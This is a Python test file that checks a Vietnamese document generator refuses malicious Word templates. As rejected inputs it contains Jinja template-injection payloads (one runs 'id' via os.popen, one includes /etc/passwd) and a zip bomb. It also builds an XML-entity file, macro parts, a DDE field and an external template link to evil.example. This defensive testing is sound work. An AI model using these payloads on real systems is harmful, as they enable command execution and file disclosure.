"""Templates come from strangers: a bad one is refused with its place, and none loses or runs what the plan says."""

import re
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from docx.document import Document
from docxtpl import DocxTemplate

from generator.law.kinds import kind
from generator.making import build
from generator.making.build import document_bytes
from generator.making.load import load_plan
from generator.package import Package, read_package, zip_parts
from generator.problems import Rejected
from generator.word import render
from generator.word.template import template_bytes
from tests.helpers import BASE, ROOT, changed, document, sound, template, texts

MAIN = "word/document.xml"
SUBJECT = "{{ trich_yeu }}"


def _with(new: str, old: str = SUBJECT, part: str = MAIN) -> Package:
    original = template()
    text = original.parts[part].decode()
    assert old in text
    return Package(
        "office.docx", {**original.parts, part: text.replace(old, new, 1).encode()}, (), ()
    )


def _refused(package: Package, text: str = BASE) -> str:
    with pytest.raises(Rejected) as refused:
        document(text, package)
    (problem,) = refused.value.problems
    return problem.code


@pytest.mark.parametrize(
    ("tag", "code"),
    [
        ("{{ trich_yeux }}", "template/unknown-name"),
        ("{{ trich_yeu }", "template/not-printed"),
        ("{{ trich_yeu", "template/not-printed"),
        ("{% if trich_yeu %}{{ trich_yeu }}", "template/syntax"),
        ("{{ trich_yeu.__class__ }}", "template/forbidden"),
        ("{{ trich_yeu.__class__.__mro__ }}", "template/forbidden"),
        (
            "{{ trich_yeu }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "template/forbidden",
        ),
        ("{{ trich_yeu }}{{ trich_yeu.upper() }}", "template/forbidden"),
        ("{{ trich_yeu }}{% for i in range(10) %}{{ i }}{% endfor %}", "template/forbidden"),
        ("{{ trich_yeu }}{{ 10**10 }}", "template/forbidden"),
        ("{{ trich_yeu * 1000000 }}", "template/forbidden"),
        ("{{ trich_yeu ~ trich_yeu }}", "template/forbidden"),
        ("{{ trich_yeu }}{% set x = 1 %}", "template/forbidden"),
        ("{{ trich_yeu }}{% include '/etc/passwd' %}", "template/forbidden"),
        ("{{ trich_yeu }}{% macro f() %}{% endmacro %}", "template/forbidden"),
        (
            "{{ trich_yeu }}" + "{% for a in can_cu %}" * 4 + "{% endfor %}" * 4,
            "template/forbidden",
        ),
        ("{{ trich_yeu|center(1000000) }}", "template/syntax"),
        ("{{ trich_yeu }}{% for i in [1, 2] %}{% endfor %}", "template/forbidden"),
        ("", "template/not-printed"),
        ("{{ trich_yeu }}" + "{{ so_ky_hieu }}" * 2501, "template/tags"),
    ],
)
def test_a_bad_tag_is_refused(tag: str, code: str) -> None:
    assert _refused(_with(tag)) == code


def test_an_unknown_name_is_told_with_its_paragraph_and_the_nearest_name() -> None:
    with pytest.raises(Rejected) as refused:
        document(BASE, _with("Về: {{ trich_yeux }}"))
    (problem,) = refused.value.problems
    assert "trich_yeux" in problem.spot.part and "trich_yeu?" in problem.advice.vi


def test_every_name_left_out_of_a_template_is_found() -> None:
    text = (
        BASE.replace("abbreviation: UBND", "abbreviation: UBND, parent: Tỉnh")
        + "appendices: [{title: A, items: [B.]}]\n"
    )
    names = sound(text).paper.names
    for name in (name for name, value in names.items() if value):
        original = template().parts[MAIN].decode()
        paragraph = r"<w:p>(?:(?!</w:p>).)*"
        loop = rf"{paragraph}for (?:dong|doan) in {name} %\}}.*?endfor %\}}</w:t></w:r></w:p>"
        without = re.sub(loop, "<w:p/>", original, flags=re.DOTALL).replace(f"{{{{ {name} }}}}", "")
        assert without != original, name
        package = Package("office.docx", {**template().parts, MAIN: without.encode()}, (), ())
        assert _refused(package, text) == "template/not-printed", name


def test_text_beside_a_paragraph_tag_is_not_lost_in_silence() -> None:
    assert _refused(_with("{{ trich_yeu }}{%p if ten_loai %}")) in (
        "template/syntax",
        "template/not-printed",
    )


DAMAGE = [
    ("word/styles.xml", '<w:sz w:val="28"/>', '<w:sz w:val="abc"/>'),
    (MAIN, '<w:left w:w="0" w:type="dxa"/>', '<w:left w:w="abc" w:type="dxa"/>'),
    (MAIN, '<w:pgSz w:w="11906"', '<w:pgSz w:w="abc"'),
    (
        MAIN,
        "<w:cantSplit/></w:trPr><w:tc><w:tcPr>",
        "<w:cantSplit/></w:trPr><w:tc><w:tcPr><w:vMerge/>",
    ),
    ("word/theme/theme1.xml", "</a:theme>", ""),
    ("docProps/app.xml", "</Properties>", ""),
    (MAIN, "{{ trich_yeu }}", "{{ trich_yeu }}\ufdd0999\ufdd1"),
    (MAIN, '<w:tcW w:w="', '<w:gridSpan w:val="3000000"/><w:tcW w:w="'),
    ("[Content_Types].xml", "wordprocessingml.styles+xml", "wordprocessingml.odd+xml"),
]


@pytest.mark.parametrize(("part", "old", "new"), DAMAGE)
def test_a_damaged_template_is_refused_or_used_and_never_a_traceback(
    part: str, old: str, new: str
) -> None:
    package = _with(new, old, part)
    try:
        assert "Nguyễn Văn An" in texts(document(BASE, package))
    except Rejected as refused:
        (problem,) = refused.problems
        assert problem.code.startswith("template/")


NAME = '<w:r><w:t xml:space="preserve">{{ ho_ten }}</w:t></w:r>'
FOUND = [
    (MAIN, NAME, NAME.replace("w:r>", "w:rt>"), "template/place"),
    (MAIN, f"{NAME}</w:p>", f"</w:p>{NAME}", "template/place"),
    ("_rels/.rels", ' Id="rId3"', "", "template/damaged"),
    ("[Content_Types].xml", "package.core-properties+xml", "package.odd+xml", "template/damaged"),
]
"""What mutations found."""


@pytest.mark.parametrize(("part", "old", "new", "code"), FOUND)
def test_what_was_told_as_a_fault_of_the_program(part: str, old: str, new: str, code: str) -> None:
    package = _with(new, old, part)
    with pytest.raises(Rejected) as refused:
        document(BASE, package)
    (problem,) = refused.value.problems
    assert (problem.spot.path, problem.code) == ("office.docx", code)


@pytest.mark.parametrize("around", ["sdt", "smartTag", "hyperlink", "ins"])
def test_a_tag_may_stand_inside_something_of_its_paragraph(around: str) -> None:
    inner = f"<w:sdtContent>{NAME}</w:sdtContent>" if around == "sdt" else NAME
    paper = document(BASE, _with(f"<w:{around}>{inner}</w:{around}>", NAME))
    assert "Nguyễn Văn An" in "".join(paper.element.itertext())


def test_a_tag_may_stand_in_several_runs() -> None:
    half = '<w:r><w:t xml:space="preserve">{}</w:t></w:r>'
    runs = half.format("{{ ho_") + half.format("ten }}")
    assert "Nguyễn Văn An" in texts(document(BASE, _with(runs, NAME)))


def test_a_length_in_points_is_read_or_refused() -> None:
    package = _with('<w:left w:w="5.4pt" w:type="dxa"/>', '<w:left w:w="0" w:type="dxa"/>')
    try:
        document(BASE, package)
    except Rejected as refused:
        assert refused.problems[0].code == "template/damaged"


def test_a_template_of_endless_paragraphs_is_refused() -> None:
    assert _refused(_with("</w:p>" + "<w:p/>" * 6000, "</w:p>")) == "template/too-large"


def test_a_value_in_a_footnote_of_a_document_with_two_sections_is_not_run() -> None:
    original = template()
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    note = '<w:footnote w:id="1"><w:p><w:r><w:t>{{ ho_ten }}</w:t></w:r></w:p></w:footnote>'
    notes = f'<w:footnotes xmlns:w="{word}">{note}</w:footnotes>'
    types = original.parts["[Content_Types].xml"].decode()
    note_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    types = types.replace(
        "</Types>", f'<Override PartName="/word/footnotes.xml" ContentType="{note_type}"/></Types>'
    )
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
    relations = original.parts["word/_rels/document.xml.rels"].decode()
    relations = relations.replace(
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{relation}" Target="footnotes.xml"/></Relationships>',
    )
    main = original.parts[MAIN].decode()
    section = main[main.index("<w:sectPr>") : main.index("</w:sectPr>") + len("</w:sectPr>")]
    main = main.replace("<w:tbl>", f"<w:p><w:pPr>{section}</w:pPr></w:p><w:tbl>", 1)
    parts = {
        **original.parts,
        MAIN: main.encode(),
        "word/footnotes.xml": notes.encode(),
        "[Content_Types].xml": types.encode(),
        "word/_rels/document.xml.rels": relations.encode(),
    }
    payload = "{{ 7*7 }} & {{ cycler }}"
    text = BASE.replace("name: Nguyễn Văn An", f"name: '{payload}'")
    paper = document(text, Package("office.docx", parts, (), ()))
    notes_part = next(
        part for part in paper.part.package.iter_parts() if part.partname == "/word/footnotes.xml"
    )
    assert "{{ 7*7 }} &amp; {{ cycler }}" in notes_part.blob.decode()


def test_upper_is_a_filter_that_templates_may_use() -> None:
    assert "KẾ HOẠCH" in texts(document(BASE, _with("{{ ten_loai|upper }}", "{{ ten_loai }}")))
    paper = document(BASE, _with("{{ ho_ten|upper }}", "{{ ho_ten }}"))
    assert "NGUYỄN VĂN AN" in texts(paper)


def test_a_text_that_a_tag_itself_has_comes_out_in_every_paper_of_the_template() -> None:
    package = _with("{{ 'Về:' }} {{ trich_yeu }}")
    for subject in ("Việc thứ nhất", "Việc thứ hai"):
        assert f"Về: {subject}" in texts(document(changed(subject=f"subject: {subject}"), package))


def test_words_around_a_tag_stay_and_look_as_they_did() -> None:
    paper = document(
        BASE.replace("Các cơ quan, đơn vị", "Các *cơ quan*"),
        _with("Phụ trách: {{ ho_ten }}, ký", "{{ ho_ten }}"),
    )
    assert "Phụ trách: Nguyễn Văn An, ký" in texts(paper)


def test_tags_of_the_template_in_other_places_are_told() -> None:
    package = _with(
        "<w:r><w:delText>{{ ho_ten }}</w:delText></w:r><w:r><w:t>{{ ho_ten }}</w:t></w:r>",
        '<w:r><w:t xml:space="preserve">{{ ho_ten }}</w:t></w:r>',
    )
    assert _refused(package) == "template/place"


@pytest.fixture
def write(tmp_path: Path) -> Callable[[bytes], Path]:
    def written(content: bytes) -> Path:
        path = tmp_path / "office.docx"
        path.write_bytes(content)
        return path

    return written


def _code(path: Path) -> str:
    with pytest.raises(Rejected) as refused:
        read_package(path)
    (problem,) = refused.value.problems
    return problem.code


def test_files_that_are_no_template_are_refused(
    write: Callable[[bytes], Path], tmp_path: Path
) -> None:
    good = template_bytes(kind("ke_hoach"))
    assert _code(tmp_path) == "file/folder"
    assert _code(tmp_path / "none.docx") == "file/missing"
    assert _code(write(b"")) == "file/empty"
    assert _code(write(b"PK\x03\x04 not a zip")) == "file/damaged"
    assert _code(write(bytes.fromhex("D0CF11E0A1B11AE1") + b"x" * 600)) == "file/encrypted"
    assert _code(write(good[: len(good) // 2])) == "file/damaged"
    assert _code(write(zip_parts({"a.txt": b"x"}))) == "file/not-docx"
    doctype = {**template().parts, "word/styles.xml": b'<!DOCTYPE x [<!ENTITY e "y">]><x/>'}
    assert _code(write(zip_parts(doctype))) == "file/damaged"
    assert (
        _code(write(zip_parts({**template().parts, **{f"x{n}": b"" for n in range(1001)}})))
        == "file/too-large"
    )


def test_a_zip_bomb_is_refused_before_it_unpacks(tmp_path: Path) -> None:
    import zipfile

    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"\0" * (200 * 1024 * 1024))
    assert _code(path) == "file/too-large"


def test_two_members_with_one_name_are_refused(tmp_path: Path) -> None:
    import warnings
    import zipfile

    path = tmp_path / "twice.docx"
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
        warnings.simplefilter("ignore")
        for name, content in template().parts.items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", b"<x/>")
    assert _code(path) == "file/damaged"


def test_macros_and_outside_links_in_a_template_are_refused(write: Callable[[bytes], Path]) -> None:
    parts = template().parts
    macro = read_package(write(zip_parts({**parts, "word/vbaProject.bin": b"x"})))
    assert _refused(macro) == "template/macros"
    relations = parts["word/_rels/document.xml.rels"].decode()
    fetch = (
        'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'
    )
    outside = relations.replace(
        "</Relationships>", f'<Relationship Id="rId9" {fetch}/></Relationships>'
    )
    package = read_package(
        write(zip_parts({**parts, "word/_rels/document.xml.rels": outside.encode()}))
    )
    assert (
        package.external == ("http://evil.example/t.dotm",)
        and _refused(package) == "template/external"
    )


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        ("word/_rels/document.xml.rels", "</Relationships>", '<Relationship Id="r9" Type="http://x/image" Target="http://e/a?b>c" TargetMode="&#69;xternal"/></Relationships>'),
        ("word/_rels/document.xml.rels", "</Relationships>", '<Relationship Id="r9" Type="http://x/aFChunk" Target="a.html"/></Relationships>'),
        ("word/_rels/document.xml.rels", "</Relationships>", '<Relationship Id="r9" Type="http://x/package" Target="a.xlsx"/></Relationships>'),
        ("word/_rels/document.xml.rels", "</Relationships>", '<Relationship Id="r9" Type="http://x/2006/vbaProject" Target="harmless.bin"/></Relationships>'),
        (MAIN, "<w:t xml:space", '<w:instrText>INCLUDEPICTURE "http://e/a.png" \\d</w:instrText><w:t xml:space'),
        (MAIN, "<w:t xml:space", "<w:instrText>DDE</w:instrText><w:instrText>AUTO c calc</w:instrText><w:t xml:space"),
    ],
)  # fmt: skip
def test_no_disguise_of_active_content_gets_through(
    part: str, old: str, new: str, write: Callable[[bytes], Path]
) -> None:
    package = read_package(write(zip_parts(_with(new, old, part).parts)))
    assert _refused(package) in ("template/macros", "template/external")


def test_relationships_in_utf_16_are_refused(write: Callable[[bytes], Path]) -> None:
    parts = template().parts
    odd = parts["_rels/.rels"].decode().replace("UTF-8", "UTF-16").encode("utf-16")
    assert _code(write(zip_parts({**parts, "_rels/.rels": odd}))) == "file/damaged"


def test_what_the_template_file_knew_of_its_clerk_does_not_reach_the_document() -> None:
    core = template().parts["docProps/core.xml"].decode()
    named = core.replace(
        "/>",
        "><dc:creator>Clerk {{ ho_ten }}</dc:creator><cp:lastModifiedBy>Clerk</cp:lastModifiedBy></cp:coreProperties>",
    )
    paper = document(
        BASE,
        Package("office.docx", {**template().parts, "docProps/core.xml": named.encode()}, (), ()),
    )
    assert "Clerk" not in paper.part.package._core_properties_part.blob.decode()


def test_a_template_saved_by_libreoffice_has_its_properties_once(
    write: Callable[[bytes], Path],
) -> None:
    parts = template().parts
    core = b"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
    theirs = core.replace(b"package/2006", b"officedocument/2006")
    changed = {**parts, "_rels/.rels": parts["_rels/.rels"].replace(core, theirs)}
    made = read_package(
        write(document_bytes(sound(), read_package(write(zip_parts(changed)))))
    ).parts
    assert made["_rels/.rels"].count(b"metadata/core-properties") == 1
    assert [name for name in made if "core" in name] == ["docProps/core.xml"]


def test_no_template_is_blamed_for_a_fault_of_our_own(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise ArithmeticError("a fault of the program")

    monkeypatch.setattr("generator.word.render.expand", broken)
    with pytest.raises(ArithmeticError):
        document_bytes(sound(), template())


@pytest.mark.parametrize("name", ["ke-hoach", "papi-khanh-hoa-2023", "xa-minh-tan-lan-2"])
def test_what_is_kept_of_a_template_gives_what_docxtpl_gives(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Twice, as nothing is made ready the second time; the oracle is docxtpl's own."""
    (path,) = (ROOT / "plans").rglob(f"{name}.yaml")
    plan = load_plan(path)
    office = _with('<w:background w:color="FFFFFF"/><w:body>', "<w:body>")
    made = [document_bytes(plan, office) for _ in range(2)]
    for step in ("patch_xml", "resolve_listing", "map_tree", "init_docx"):
        monkeypatch.setattr(render._Template, step, getattr(DocxTemplate, step))
    monkeypatch.setattr(render, "_admitted", render._admitted.__wrapped__)
    monkeypatch.setattr(render, "unpacked", lambda parts: BytesIO(zip_parts(parts)))
    monkeypatch.setattr(build, "saved", _as_python_docx_saves)
    assert made == [document_bytes(plan, office)] * 2


def _as_python_docx_saves(paper: Document) -> dict[str, bytes]:
    paper.save(written := BytesIO())
    with ZipFile(written) as members:
        return {name: members.read(name) for name in members.namelist()}


def test_breaks_in_the_words_of_a_template_are_breaks() -> None:
    shown = document(BASE, _with("{{ trich_yeu }}</w:t></w:r><w:r><w:t>a\tb\nc"))
    xml = shown.element.xml
    assert "<w:tab/>" in xml and ">b</w:t>" in xml and "<w:br/>" in xml
